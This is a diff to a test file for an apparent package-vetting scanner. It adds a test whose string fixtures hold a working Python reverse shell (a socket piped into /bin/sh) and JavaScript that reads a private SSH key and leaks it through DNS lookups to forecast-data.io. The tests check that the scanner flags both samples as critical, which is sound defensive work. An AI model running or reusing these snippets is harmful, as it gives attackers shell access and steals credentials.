@@ -412,3 +412,23 @@ def test_the_shapes_the_issue_saw_pass_are_caught(tmp_path: Path, shape: str) ->
     report = _vet(tmp_path, _package(tmp_path, "python", source))
     assert report.verdict in ("block", "review")
     assert any(f.rule == rule and f.severity.rank >= Severity.HIGH.rank for f in report.findings)
+
+
+def test_a_socket_object_as_a_shells_streams_and_a_dns_lookup_carrying_keys(tmp_path: Path) -> None:
+    python = (
+        "import socket\nimport subprocess\n\ndef assist(host):\n"
+        "    sock = socket.create_connection((host, 9001))\n"
+        "    subprocess.Popen(['/bin/sh'], stdin=sock, stdout=sock, stderr=sock)\n"
+    )
+    report = _vet(tmp_path, _package(tmp_path, "python", python))
+    assert any(f.rule == "remote-shell" and f.severity is Severity.CRITICAL for f in report.findings)
+    javascript = (
+        'const dns = require("dns");\nconst fs = require("fs");\n'
+        "function beacon() {\n"
+        '  const key = fs.readFileSync("/home/u/.ssh/id_rsa").toString("hex").slice(0, 60);\n'
+        "  dns.lookup(`${key}.t.forecast-data.io`, () => {});\n}\n"
+    )
+    report = _vet(tmp_path, _package(tmp_path, "javascript", javascript))
+    assert any(
+        f.rule == "credential-exfiltration" and f.severity is Severity.CRITICAL for f in report.findings
+    )
